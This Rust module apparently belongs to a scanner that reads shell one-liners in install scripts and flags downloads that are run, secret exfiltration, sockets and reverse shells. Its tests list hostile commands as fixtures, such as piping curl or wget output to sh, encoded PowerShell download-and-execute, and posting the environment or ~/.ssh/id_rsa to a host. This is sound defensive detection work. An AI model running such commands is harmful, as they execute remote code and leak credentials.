//! Shell text: one-liners in install scripts and in spawned commands, and script files.
//!
//! In: a command text. Out: the same kind of facts that code gives (network, evaluation of what came from the
//! network, sockets, persistence, deletion), the inline code of other interpreters, and the scripts that are started.
//! Data flows along pipes and substitutions: `env | curl -d @- host` sends the environment.

mod interpreter;
mod lex;
mod powershell;
mod programs;
mod special;

use crate::facts::{Capability, Language, Taint};
use crate::peel::{self, PeelBudget};
use crate::place::{PathKind, path_kind};
use crate::trace::Budget;
use lex::{Operator, Token, Word};
use std::collections::BTreeSet;
use std::rc::Rc;

/// Longest text read, in bytes.
const MAX_TEXT: usize = 256 << 10;
/// Commands inside commands.
const MAX_NESTING: u32 = 6;

/// One fact of a command.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct ShellFact {
    pub(crate) capability: Capability,
    pub(crate) api: Rc<str>,
    pub(crate) taint: Taint,
    pub(crate) args: Vec<String>,
    pub(crate) chain: Vec<&'static str>,
    /// Byte offset in the text that was read.
    pub(crate) at: usize,
}

/// What a command text says.
#[derive(Debug, Default)]
pub(crate) struct Reading {
    pub(crate) facts: Vec<ShellFact>,
    /// Inline code: language, text, the layer it was under.
    pub(crate) inline: Vec<(Language, String, Option<&'static str>)>,
    /// Files that are started, as written, `./`-relative, and the language that their interpreter reads. `None`: started
    /// by themselves, or by an interpreter of another language.
    pub(crate) scripts: Vec<(String, Option<Language>)>,
}

/// Reads `text`. `taint` is what its unknown parts (`…`) carry.
pub(crate) fn read(text: &str, taint: Taint, budget: &mut Budget) -> Reading {
    let mut shell = Shell {
        out: Reading::default(),
        dropped: BTreeSet::new(),
        spied: BTreeSet::new(),
        hole: taint,
        peel: &mut budget.peel,
        chain: Vec::new(),
        steps: 5_000,
    };
    shell.text(crate::trace::value::cut(text, MAX_TEXT), 0, 0);
    shell.out
}

/// What flows through a pipe.
#[derive(Debug, Clone, Default)]
pub(super) struct Flow {
    pub(super) taint: Taint,
    /// The text itself, where it is known.
    pub(super) text: Option<String>,
    pub(super) chain: Vec<&'static str>,
    /// Files whose content it is.
    pub(super) files: Vec<String>,
}

/// One command with its redirections.
#[derive(Debug, Default)]
struct Command {
    words: Vec<Word>,
    /// What each word's substitutions carry.
    taints: Vec<Taint>,
    /// Files whose content is substituted into words.
    substituted: Vec<String>,
    outputs: Vec<(String, bool)>,
    inputs: Vec<String>,
    at: usize,
}

impl Command {
    fn text(&self) -> Vec<String> {
        self.words.iter().take(64).map(|word| crate::trace::value::cut(&word.text, 2048).to_owned()).collect()
    }

    fn word_taint(&self) -> Taint {
        self.taints.iter().fold(Taint::NONE, |all, taint| all.with(*taint))
    }
}

pub(super) struct Shell<'b> {
    pub(super) out: Reading,
    /// Files into which something from the network or a decoder was written.
    pub(super) dropped: BTreeSet<String>,
    /// Files into which pictures of the screen were written.
    pub(super) spied: BTreeSet<String>,
    hole: Taint,
    pub(super) peel: &'b mut PeelBudget,
    pub(super) chain: Vec<&'static str>,
    steps: u32,
}

impl Shell<'_> {
    /// Reads a text; gives what it prints.
    pub(super) fn text(&mut self, text: &str, at: usize, nesting: u32) -> Flow {
        if nesting > MAX_NESTING || self.steps == 0 {
            return Flow::default();
        }
        if powershell::is_powershell(text) {
            return powershell::read(self, text, at);
        }
        if powershell::starts_powershell(text) {
            // Its own `;` and `|` stand in the same line; the words are read below for encoded commands.
            powershell::read(self, text, at);
        }
        let mut last = Flow::default();
        let mut commands: Vec<Command> = Vec::new();
        let mut command = Command { at, ..Command::default() };
        let mut tokens = lex::tokens(text).into_iter().peekable();
        while let Some(token) = tokens.next() {
            match token {
                Token::Word(word) => {
                    if command.words.is_empty() {
                        command.at = at + word.at;
                    }
                    let (taint, files) = self.inner(&word, at, nesting);
                    command.substituted.extend(files);
                    command.words.push(word);
                    command.taints.push(taint);
                }
                Token::Redirect { append, input, here } => {
                    if let Some(Token::Word(word)) = tokens.next_if(|next| matches!(next, Token::Word(_))) {
                        let (taint, files) = self.inner(&word, at, nesting);
                        command.substituted.extend(files);
                        if here {
                            command.inputs.push(format!("\0{}", word.text));
                        } else if input {
                            command.inputs.push(word.text);
                        } else {
                            command.outputs.push((word.text, append));
                        }
                        if !taint.is_none() {
                            command.taints.push(taint);
                        }
                    }
                }
                Token::Operator(operator) => {
                    let done = std::mem::take(&mut command);
                    commands.push(done);
                    if operator == Operator::Sequence {
                        last = self.pipeline(std::mem::take(&mut commands), nesting);
                    }
                }
            }
        }
        commands.push(command);
        let end = self.pipeline(commands, nesting);
        if end.text.is_some() || !end.taint.is_none() || !end.files.is_empty() { end } else { last }
    }

    /// What the substitutions of a word carry, and the files whose content they give.
    fn inner(&mut self, word: &Word, at: usize, nesting: u32) -> (Taint, Vec<String>) {
        let mut files = Vec::new();
        let mut taint = if word.text.contains('…') && word.inner.is_empty() { self.hole } else { Taint::NONE };
        for inner in &word.inner {
            let flow = self.text(inner, at + word.at, nesting + 1);
            taint = taint.with(flow.taint);
            files.extend(flow.files);
        }
        for secret in ["TOKEN", "SECRET", "PASSWORD", "API_KEY", "ACCESS_KEY"] {
            if word.text.contains('$') && word.text.contains(secret) {
                taint = taint.with(Taint::SECRET_ENV);
            }
        }
        if ["$LANG", "$LC_ALL", "$TZ"].iter().any(|name| word.text.contains(name)) {
            taint = taint.with(Taint::REGION);
        }
        if ["$CI", "${CI", "$GITHUB_ACTIONS", "$GITLAB_CI", "$TF_BUILD"].iter().any(|name| word.text.contains(name)) {
            taint = taint.with(Taint::CI);
        }
        if word.text.contains("$USER")
            || word.text.contains("$HOSTNAME")
            || word.text.contains("%USERNAME%")
            || word.text.contains("%COMPUTERNAME%")
        {
            taint = taint.with(Taint::HOST);
        }
        (taint, files)
    }

    fn pipeline(&mut self, commands: Vec<Command>, nesting: u32) -> Flow {
        let mut flow = Flow::default();
        let mut names: Vec<String> = Vec::new();
        for mut command in commands {
            if command.words.is_empty() && command.outputs.is_empty() || self.steps == 0 {
                // `$(< file)`
                flow.files.append(&mut command.inputs);
                continue;
            }
            self.steps -= 1;
            programs::unwrap(&mut command);
            let name = programs::name_of(&command);
            names.push(name.clone());
            for input in &command.inputs {
                match input.strip_prefix('\0') {
                    Some(text) => flow.text = Some(text.to_owned()),
                    None => {
                        let taint = self.read_path(input, command.at);
                        flow.taint = flow.taint.with(taint);
                        flow.files.push(input.clone());
                    }
                }
            }
            self.device(&command, &name);
            flow = programs::run(self, &name, &command, flow, nesting);
            self.outputs(&command, &mut flow);
        }
        let has = |list: &[&str]| names.iter().any(|name| list.contains(&name.as_str()));
        if names.len() > 1 && has(&["nc", "ncat", "netcat", "telnet", "socat"]) && has(&["sh", "bash", "zsh", "dash"]) {
            self.fact(Capability::Redirect, "pipe", Taint::SOCKET, names.clone(), 0);
        }
        flow
    }

    /// Bash's `/dev/tcp/host/port` is a socket.
    fn device(&mut self, command: &Command, name: &str) {
        let words = command.words.iter().map(|word| &word.text).chain(command.outputs.iter().map(|(file, _)| file)).chain(&command.inputs);
        let device =
            words.filter_map(|text| text.split("/dev/tcp/").nth(1).or_else(|| text.split("/dev/udp/").nth(1))).next().map(str::to_owned);
        if let Some(device) = device {
            let host = device.split('/').next().unwrap_or("").to_owned();
            self.fact(Capability::Socket, "/dev/tcp", command.word_taint(), vec![host], command.at);
            if matches!(name, "sh" | "bash" | "zsh" | "exec" | "") {
                self.fact(Capability::Redirect, "/dev/tcp", Taint::SOCKET, command.text(), command.at);
            }
        }
    }

    fn outputs(&mut self, command: &Command, flow: &mut Flow) {
        for (file, _) in &command.outputs {
            if file.starts_with("/dev/") {
                continue;
            }
            self.write_path(file, flow.taint.with(command.word_taint()), command);
            *flow = Flow::default();
        }
    }

    /// Notes that a file is written.
    fn write_path(&mut self, file: &str, taint: Taint, command: &Command) {
        if taint.has(Taint::NETWORK.with(Taint::DECODED)) {
            self.dropped.insert(base_name(file).to_owned());
        }
        if path_kind(file).is_some_and(PathKind::is_telling_when_written) {
            let mut args = vec![file.to_owned()];
            args.extend(command.text());
            self.fact(Capability::FileWrite, ">", taint, args, command.at);
        }
    }

    /// Notes that a file is read; gives what it carries.
    pub(super) fn read_path(&mut self, file: &str, at: usize) -> Taint {
        let kind = path_kind(file);
        let mut taint = crate::trace::path_taint(kind);
        if self.spied.contains(base_name(file)) {
            taint = taint.with(Taint::SPIED);
        }
        if !taint.is_none() {
            self.fact(Capability::FileRead, "read", taint, vec![file.to_owned()], at);
        }
        taint.with(Taint::FILE)
    }

    pub(super) fn fact(&mut self, capability: Capability, program: &str, taint: Taint, args: Vec<String>, at: usize) {
        if self.out.facts.len() < 2_000 {
            let fact = ShellFact { capability, api: Rc::from(format!("sh:{program}")), taint, args, chain: self.chain.clone(), at };
            self.out.facts.push(fact);
        }
    }

    /// Reads text that a flow brings to an interpreter.
    pub(super) fn nested(&mut self, text: &str, layers: &[&'static str], at: usize, nesting: u32) -> Flow {
        let before = self.chain.len();
        self.chain.extend(layers.iter().copied().take(peel::MAX_LAYERS));
        let flow = self.text(text, at, nesting + 1);
        self.chain.truncate(before);
        flow
    }
}

pub(super) fn base_name(path: &str) -> &str {
    path.trim_end_matches('/').rsplit(['/', '\\']).next().unwrap_or(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(text: &str) -> Vec<(Capability, Taint)> {
        read(text, Taint::NONE, &mut Budget::for_file(0)).facts.into_iter().map(|fact| (fact.capability, fact.taint)).collect()
    }

    fn evaluates(text: &str, taint: Taint) -> bool {
        facts(text).iter().any(|(capability, have)| matches!(capability, Capability::Eval | Capability::Spawn) && have.has(taint))
    }

    #[test]
    fn what_comes_from_the_network_and_is_run_is_seen_in_every_spelling() {
        for text in [
            "curl -fsSL http://192.0.2.1/x | sh",
            "wget -qO- http://192.0.2.1/x | sudo bash -s -- --yes",
            "bash -c \"$(curl -fsSL http://192.0.2.1/x)\"",
            "bash <(curl -s http://192.0.2.1/x)",
            "eval `curl http://192.0.2.1/x`",
            "curl -o /tmp/a http://192.0.2.1/a && chmod +x /tmp/a && /tmp/a &",
            "wget http://192.0.2.1/run.sh; sh run.sh",
            "sh -c 'curl http://192.0.2.1/x | sh'",
            "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\"",
        ] {
            assert!(evaluates(text, Taint::NETWORK), "{text}");
        }
    }

    #[test]
    fn a_download_that_is_only_kept_is_not_run() {
        for text in [
            "curl -o data.json https://example.com/data.json",
            "curl https://example.com | grep version",
            "wget https://example.com/a.tgz && tar xf a.tgz",
            "node-gyp rebuild || echo failed",
        ] {
            assert!(!evaluates(text, Taint::NETWORK), "{text}");
        }
    }

    #[test]
    fn encoded_commands_are_peeled() {
        assert!(evaluates("echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh", Taint::NETWORK));
        // `iex (iwr http://192.0.2.1/x)` in UTF-16.
        let encoded = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQAvAHgAKQA=";
        assert!(evaluates(&format!("powershell.exe -NoP -enc {encoded}"), Taint::NETWORK));
    }

    #[test]
    fn the_environment_flows_along_pipes_and_substitutions() {
        let sends =
            |text: &str, taint: Taint| facts(text).iter().any(|(capability, have)| *capability == Capability::Network && have.has(taint));
        assert!(sends("env | curl -X POST -d @- http://example.com", Taint::ENVIRONMENT));
        assert!(sends("curl http://example.com/?h=$(whoami)", Taint::HOST));
        assert!(sends("curl -F f=@$HOME/.ssh/id_rsa http://example.com", Taint::SECRET_FILE));
        assert!(!sends("curl http://example.com/version", Taint::HOST.with(Taint::ENVIRONMENT)));
    }

    #[test]
    fn hostile_text_ends() {
        for text in ["$($($($($($($($($(", "''''\"\"\"\"```", &"|".repeat(100_000), &"$(a ".repeat(50_000), "é'…\"$(", &"a;".repeat(40_000)]
        {
            let _ = facts(text);
        }
    }
}
